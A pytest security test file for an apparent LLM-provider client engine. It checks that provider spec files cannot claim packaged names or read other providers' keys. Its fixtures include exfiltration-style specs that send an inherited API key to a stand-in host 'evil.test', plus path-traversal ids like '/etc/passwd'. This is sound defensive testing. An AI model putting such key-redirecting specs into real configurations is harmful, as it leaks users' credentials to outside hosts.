"""Where a spec comes from decides what it may have: names, keys, the environment (RELIABILITY A1, A2)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

import engine
from engine.check import check
from engine.errors import ConfigError, Error, SpecError
from tests.security.strangers import ANSWER, CHAT, HEAD, HOST, KEY, client, leaks, local, provider, stranger

VICTIM = "GROQ_API_KEY"  # a packaged provider's
GROQ = "api.groq.com"


@pytest.fixture(autouse=True)
def keys_in_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (VICTIM, "OPENAI_API_KEY", "STRANGER_API_KEY", "AWS_SECRET_ACCESS_KEY", "DATABASE_PASSWORD"):
        monkeypatch.setenv(name, KEY)


def ask(catalog: Any, target: str = "stranger/m", **options: Any) -> tuple[list[httpx.Request], Error | None]:
    """What reaches a provider, and the error if one comes of it; no key is handed over."""
    transport, seen = provider()
    try:
        engine.Client(catalog=catalog, transport=transport, attempts=1, **options).chat(target, "hi")
    except Error as error:
        return seen, error
    return seen, None


def carried(seen: list[httpx.Request]) -> bool:
    """Whether the canary left the machine, in whatever part of a request."""
    return any(leaks(f"{r.url} {r.headers.raw} {r.content!r}") for r in seen)


# --- A1: names ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["groq", "openai", "anthropic"])
@pytest.mark.parametrize("door", ["remote", "local"])
def test_a1_a_packaged_name_is_not_taken_unasked(name: str, door: str) -> None:
    source = stranger(id=name) if door == "remote" else local(HEAD + CHAT, name)
    with pytest.raises(ConfigError, match="packaged"):
        engine.Catalog([source])
    assert engine.Catalog([source], override=[name]).trust(name) == door


def packaged_alias() -> tuple[str, str]:
    catalog = engine.Catalog()
    return next(iter(catalog.aliases().items()))


@pytest.mark.parametrize("door", ["remote", "local"])
def test_a1_a_packaged_alias_is_not_taken_either(door: str) -> None:
    """Neither by a spec that is called so, nor by one that says it is: the caller's settings would follow the name."""
    alias, owner = packaged_alias()
    for extra, id in ((HEAD + CHAT, alias), (HEAD + CHAT + f"aliases: [{alias}, {owner}]\n", "aaa")):
        seen, error = ask(
            [stranger(extra, id=id) if door == "remote" else local(extra, id)], f"{alias}/m", providers={alias: {"api_key": KEY}}
        )
        assert not any(r.url.host == HOST for r in seen)
        assert not carried([r for r in seen if r.url.host == HOST])
        if id == alias:
            assert error is not None and error.kind == "config" and owner in str(error)


def test_a1_a_stranger_does_not_take_a_local_name() -> None:
    with pytest.raises(ConfigError, match="local"):
        engine.Catalog([local(HEAD + CHAT), stranger()])
    assert engine.Catalog([local(HEAD + CHAT), local(HEAD + CHAT)]).trust("stranger") == "local"


@pytest.mark.parametrize("id", ["", "../groq", "a/b", "a:b", "groq\n", "/etc/passwd", "x" * 200, "a b", "\x1b[31m"])
def test_a1_the_id_of_a_stranger_is_a_name(id: str) -> None:
    with pytest.raises(ConfigError):
        engine.Catalog([stranger(id=id)])


def test_a1_a_spec_never_raises_its_own_trust() -> None:
    for line in ("trust: builtin\n", "spec: 1\ntrust: local\n", "override: [groq]\n"):
        _, error = ask([stranger(HEAD + CHAT + line)])
        assert isinstance(error, SpecError)
    assert engine.Catalog([stranger("extends: groq\nname: X\n")]).plan("stranger").trust == "remote"


# --- A2: the environment ------------------------------------------------------------------------------------------------

NAMINGS = {
    "short": f"secrets: {{api_key: {VICTIM}}}",
    "table": f"secrets: {{api_key: {{env: {VICTIM}}}}}",
    "list": f"secrets: {{api_key: {{env: [STRANGER_API_KEY_2, {VICTIM}]}}}}",
    "optional": f"secrets: {{api_key: {{env: {VICTIM}, optional: true}}}}",
    "json": "secrets: {api_key: {env: AWS_SECRET_ACCESS_KEY, format: json}}",
    "variable": f"secrets: {{api_key: STRANGER_API_KEY}}\nvariables: {{v: {{env: {VICTIM}}}}}\nheaders: {{X-V: '{{{{ v }}}}'}}",
    "model patch": f"secrets: {{api_key: STRANGER_API_KEY}}\nmodels: {{'*': {{secrets: {{api_key: {VICTIM}}}}}}}",
    "variant": f"secrets: {{api_key: STRANGER_API_KEY}}\nvariants: {{v: {{secrets: {{api_key: {VICTIM}}}}}}}",
}
FRAME = f'name: S\nbase_url: https://{HOST}/v1\nauth: {{bearer: "{{{{ api_key }}}}"}}\n' + CHAT


@pytest.mark.parametrize("naming", NAMINGS)
def test_a2_a_local_spec_cannot_name_the_key_of_a_packaged_provider(naming: str) -> None:
    seen, error = ask([local(FRAME + NAMINGS[naming])])
    assert not carried(seen) and not seen
    assert isinstance(error, SpecError) and any(p.rule == "foreign-secret" for p in error.problems)
    assert not leaks(str(error))


@pytest.mark.parametrize("naming", NAMINGS)
def test_a2_the_check_says_so(naming: str, tmp_path: Path) -> None:
    path = tmp_path / "stranger.yaml"
    path.write_text(FRAME + NAMINGS[naming])
    found = check(engine.Catalog([path]), [("providers", "stranger")])
    assert any(p.rule == "foreign-secret" and p.mark.line > 1 for p in found.problems)


def test_a2_base_url_of_the_environment_is_no_way_out() -> None:
    """The key of another provider as the address of a server would be sent as a name lookup."""
    text = FRAME.replace(f"base_url: https://{HOST}/v1", f"base_url: {{env: {VICTIM}, default: 'https://{HOST}'}}")
    seen, error = ask([local(text + "secrets: {api_key: STRANGER_API_KEY}")])
    assert not carried(seen) and isinstance(error, SpecError)


@pytest.mark.parametrize("naming", [*NAMINGS, "own"])
def test_a1_a_remote_spec_reads_no_environment_at_all(naming: str) -> None:
    text = FRAME + NAMINGS.get(
        naming,
        "secrets: {api_key: STRANGER_API_KEY}\nvariables: {v: {env: DATABASE_PASSWORD, default: d}}\nheaders: {X-V: '{{ v }}'}",
    )
    seen, error = ask([stranger(text)])
    assert not carried(seen)
    assert error is not None and not leaks(str(error)) and "set " not in str(error).rpartition("pass providers")[2]


@pytest.mark.parametrize("source", ["aws", "azure", "gcp"])
def test_a1_a_remote_spec_cannot_ask_for_the_machines_identity(source: str) -> None:
    identity = f'auth: {{tokens: {{me: {{source: {source}}}}}, bearer: "{{{{ me.token }}}}"}}'
    seen, error = ask([stranger(re.sub("^auth:.*$", identity, FRAME, flags=re.MULTILINE))])
    assert not seen and isinstance(error, SpecError) and any(p.rule == "remote-identity" for p in error.problems)


def test_a1_a_remote_spec_gets_the_key_its_caller_hands_over() -> None:
    made, seen = client(stranger())
    assert made.chat("stranger/m", "hi").text == "hello"
    assert seen[0].headers["authorization"] == f"Bearer {KEY}"


MOVES = {
    "base_url": "base_url: https://evil.test/v1\n",
    "hosts": 'hosts: ["*.evil.test"]\nchat: {post: "https://a.evil.test/x"}\n',
    "base_url of an operation": "chat: {base_url: https://evil.test/v1}\n",
    "base_url of a model": "models: {'*': {base_url: https://evil.test/v1}}\n",
    "base_url of a variant": "variants: {v: {base_url: https://evil.test/v1}}\n",
    "base_url by setting": "base_url: {env: STRANGER_URL, default: https://evil.test/v1}\n",
    "hosts of a model": "models: {'*': {hosts: [evil.test], chat: {post: 'https://evil.test/x'}}}\n",
    "token call": (
        'hosts: [evil.test]\nauth: {$replace: {tokens: {t: {post: "https://evil.test/t", form: {k: "{{ api_key }}"}, '
        'value: t}}, bearer: "{{ t }}"}}\n'
    ),
}


@pytest.mark.parametrize("move", MOVES)
@pytest.mark.parametrize("target", ["stranger/m", "stranger:v/m"])
def test_a2_an_inherited_key_stays_with_its_hosts(move: str, target: str) -> None:
    seen, _ = ask([local("extends: groq\nname: S\n" + MOVES[move])], target)
    assert not carried([r for r in seen if r.url.host != GROQ])
    assert not any(r.url.host.endswith("evil.test") for r in seen)


def test_a2_inheriting_without_moving_is_not_naming() -> None:
    seen, error = ask([local("extends: groq\nname: S\nheaders: {X-A: b}\n")])
    assert error is None and seen[0].url.host == GROQ and seen[0].headers["authorization"] == f"Bearer {KEY}"


def test_a2_through_a_local_dialect_and_a_local_parent() -> None:
    """The move may be hidden in another local file."""
    wire = {**yaml.safe_load("operation: chat\npost: /x\nresponse: {text: text}\n"), "base_url": "https://evil.test"}
    parent = "extends: groq\nname: P\nbase_url: https://evil.test\n"
    for catalog in (
        [{"evil-wire": wire}, local("extends: groq\nname: S\nchat: {$replace: {extends: evil-wire}}\n")],
        [local(parent, "parent"), local("extends: parent\nname: S\n")],
        [
            local(f"extends: groq\nname: P\nsecrets: {{api_key: {VICTIM}}}\nbase_url: https://evil.test\n", "parent"),
            local("extends: parent\nname: S\n"),
        ],
    ):
        seen, _ = ask(catalog)
        assert not any(r.url.host == "evil.test" for r in seen)


def test_a2_the_callers_base_url_gets_no_key_of_the_environment() -> None:
    for settings in ({"base_url": "https://evil.test"}, {"base_url": "https://api.groq.com.evil.test"}):
        seen, error = ask([], "groq/m", providers={"groq": settings})
        assert not seen and error is not None and "base_url" in str(error)
        seen, error = ask([], "groq/m", providers={"groq": {**settings, "api_key": "mine-0123456"}})
        assert not carried(seen) and error is None


def test_a2_a_replaced_packaged_provider_keeps_its_own_key() -> None:
    """The operator said that this file is groq now; its key is still read, and no other provider's."""
    text = FRAME + NAMINGS["short"]
    seen, error = ask([local(text, "groq")], "groq/m", override=["groq"])
    assert error is None and seen[0].headers["authorization"] == f"Bearer {KEY}"
    _, error = ask([local(text.replace(VICTIM, "OPENAI_API_KEY"), "groq")], "groq/m", override=["groq"])
    assert isinstance(error, SpecError)


def test_a2_two_strangers_do_not_share_settings() -> None:
    other = stranger(HEAD.replace(HOST, "other.test") + CHAT, hosts=["other.test"], id="other")
    made, seen = client(stranger(), other)
    made.chat("stranger/m", "hi")
    with pytest.raises(ConfigError):
        made.chat("other/m", "hi")
    assert len(seen) == 1 and ANSWER


def test_a1_a_stranger_can_only_lower_limits() -> None:
    """He may not keep a call longer than the engine would."""
    made, _ = client(
        stranger(HEAD + CHAT + "limits: {deadline: 86400, idle: 7200, connect: 1, attempts: 99, first_event: 1}\n"), attempts=None
    )
    made.operation("stranger/m")
    limits = made._target("stranger/m", "chat", None).limits
    assert (limits.deadline, limits.idle, limits.connect, limits.first_event, limits.attempts) == (600, 60, 1, 1, 3)
